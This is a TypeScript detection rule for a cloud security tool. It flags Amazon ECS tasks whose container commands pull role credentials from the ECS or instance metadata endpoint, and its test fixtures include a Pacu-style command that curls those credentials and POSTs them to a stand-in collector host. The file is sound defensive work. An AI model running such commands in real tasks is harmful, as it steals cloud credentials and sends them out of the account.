import type { ApiEvent } from '../api-event.js';
import { assumedRole, ctEvent, iamUser, TERRAFORM_AGENT } from '../case-builders.js';
import type { ApiDetection, DetectionContext } from '../detection.js';
import { isAwsServiceCall, isIacAgent, list, obj, personVars, str } from './gumshoe-common.js';

/**
 * An ECS task made to hand over its role's credentials: a task definition registered, or a task run with a
 * command override, whose container command fetches them from the ECS credential endpoint
 * (`169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`) or the instance metadata service's
 * `iam/security-credentials` (Pacu's ecs__backdoor_task_def). SDKs read the endpoint themselves; a command
 * that does it by hand is after the keys, and one that also names a web address sends them there.
 *
 * High when the command also sends to an address outside the task, Medium otherwise; infrastructure as code
 * one step lower (a reviewed change, but still a task whose purpose is its credentials).
 */
const TASK_CREDENTIALS = 'CredentialAccess:ECS/TaskCredentialsExfiltration.Gumshoe';

const CREDENTIAL_ENDPOINT = /AWS_CONTAINER_CREDENTIALS_(RELATIVE|FULL)_URI|169\.254\.170\.2|169\.254\.169\.254\/latest\/meta-data\/iam|fd00:ec2::254/i;
/** A web address other than the two metadata endpoints: where the credentials are sent. */
const OUTSIDE_URL = /(https?:\/\/|\b(curl|wget)\b[^|;&]*\s)(?!169\.254\.)(\[?[a-z0-9.-]+\.[a-z]{2,}|\d{1,3}(\.\d{1,3}){3})/i;

/** Each container's command line (command, entry point), from a task definition or RunTask's overrides. */
function commandLines(event: ApiEvent): { container: string; line: string }[] {
  const request = event.request ?? {};
  const containers = event.api === 'RunTask' ? list(obj(request.overrides)?.containerOverrides) : list(request.containerDefinitions);
  return containers
    .map(obj)
    .filter((c): c is Record<string, unknown> => c !== null)
    .map((c) => ({ container: str(c.name) ?? 'unnamed', line: [...list(c.entryPoint), ...list(c.command)].map((part) => str(part) ?? '').join(' ') }))
    .filter((c) => c.line.trim() !== '');
}

function onTaskEvent(event: ApiEvent, context: DetectionContext): void {
  if (event.failed || isAwsServiceCall(event) || event.service !== 'ecs.amazonaws.com') return;
  const stealing = commandLines(event).find((c) => CREDENTIAL_ENDPOINT.test(c.line));
  if (!stealing) return;
  const sends = OUTSIDE_URL.test(stealing.line);
  const iac = isIacAgent(event.userAgent);
  const severity = sends ? (iac ? 5 : 8) : iac ? 2 : undefined;
  const request = event.request ?? {};
  const task = str(request.family) ?? str(request.taskDefinition) ?? 'unknown-task';
  context.emit({
    type: TASK_CREDENTIALS,
    event,
    severity,
    aggregateBy: `${task}/${stealing.container}`,
    vars: {
      ...personVars(event),
      task,
      container: stealing.container,
      how: event.api === 'RunTask' ? 'ran a task overriding the command of' : 'registered a task definition whose command in',
      sends: sends ? ' and sends them to a web address' : '',
      role: str(request.taskRoleArn) ?? 'its task role',
    },
  });
}

const intruder = iamUser('deploy-bot');
const terraform = assumedRole('TerraformApply', 'ci-run-8812');

/** RegisterTaskDefinition with one container whose shell command is `command`. */
const register = (command: string, identity: Record<string, unknown> = intruder, userAgent?: string, family = 'billing-worker') =>
  ctEvent({
    service: 'ecs',
    name: 'RegisterTaskDefinition',
    identity,
    userAgent,
    time: '2026-11-02T10:00:00Z',
    request: {
      family,
      taskRoleArn: 'arn:aws:iam::111122223333:role/billing-worker-task',
      executionRoleArn: 'arn:aws:iam::111122223333:role/ecsTaskExecutionRole',
      networkMode: 'awsvpc',
      requiresCompatibilities: ['FARGATE'],
      cpu: '256',
      memory: '512',
      containerDefinitions: [{ name: 'worker', image: '111122223333.dkr.ecr.us-east-1.amazonaws.com/billing-worker:2.4.1', essential: true, entryPoint: ['sh', '-c'], command: [command] }],
    },
    response: { taskDefinition: { taskDefinitionArn: `arn:aws:ecs:us-east-1:111122223333:task-definition/${family}:14`, family, revision: 14, status: 'ACTIVE' } },
  });

export const ecsTaskCredentials: ApiDetection = {
  id: 'gumshoe-ecs-task-credentials',
  source: 'cloudtrail',
  apis: ['RegisterTaskDefinition', 'RunTask'],
  types: [
    {
      type: TASK_CREDENTIALS,
      dataSource: 'CloudTrailManagement',
      severity: 5,
      resourceType: 'AccessKey',
      mitre: { tactic: 'TA0006 Credential Access', technique: 'T1552.005 Unsecured Credentials: Cloud Instance Metadata API' },
      title: 'ECS task {task} reads its role’s credentials from the metadata endpoint{sends}.',
      description:
        '{principal} {how} container {container} of {task} from {ip}: the command fetches the credentials of {role} from the credential endpoint{sends}. Whoever reads the task’s output or receives that request holds the role.',
      remediation:
        'Deregister the task definition revision (or stop the task), find where its output went, and revoke the task role’s sessions (an inline deny on aws:TokenIssueTime). Restrict ecs:RegisterTaskDefinition and ecs:RunTask overrides to the deployment pipeline.',
    },
  ],
  onEvent: onTaskEvent,
  cases: () => [
    {
      name: 'Pacu-style backdoored task definition posting its credentials out (High)',
      records: [register('apk add --no-cache curl; curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -X POST -d @- https://collector.example.net/c')],
      expect: [TASK_CREDENTIALS],
    },
    {
      name: 'a task run with its command overridden to print the credentials (Medium)',
      records: [
        ctEvent({
          service: 'ecs',
          name: 'RunTask',
          identity: intruder,
          time: '2026-11-02T10:00:00Z',
          request: {
            cluster: 'prod',
            taskDefinition: 'billing-worker:13',
            launchType: 'FARGATE',
            count: 1,
            overrides: { containerOverrides: [{ name: 'worker', command: ['sh', '-c', 'wget -qO- 169.254.170.2${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}'] }] },
          },
        }),
      ],
      expect: [TASK_CREDENTIALS],
    },
    {
      name: 'ordinary task definitions and runs: an app command, a health check through Terraform, a migration run by the pipeline',
      records: [
        register('python -m billing.worker --queue https://sqs.us-east-1.amazonaws.com/111122223333/billing'),
        register('curl -fsS http://localhost:8080/health && exec java -jar /app/app.jar', terraform, TERRAFORM_AGENT, 'web'),
        ctEvent({
          service: 'ecs',
          name: 'RunTask',
          identity: assumedRole('DeployPipeline', 'deploy-991'),
          time: '2026-11-02T10:05:00Z',
          request: { cluster: 'prod', taskDefinition: 'db-migrate:7', overrides: { containerOverrides: [{ name: 'migrate', command: ['bundle', 'exec', 'rake', 'db:migrate'] }] } },
        }),
      ],
      expect: [],
    },
  ],
};
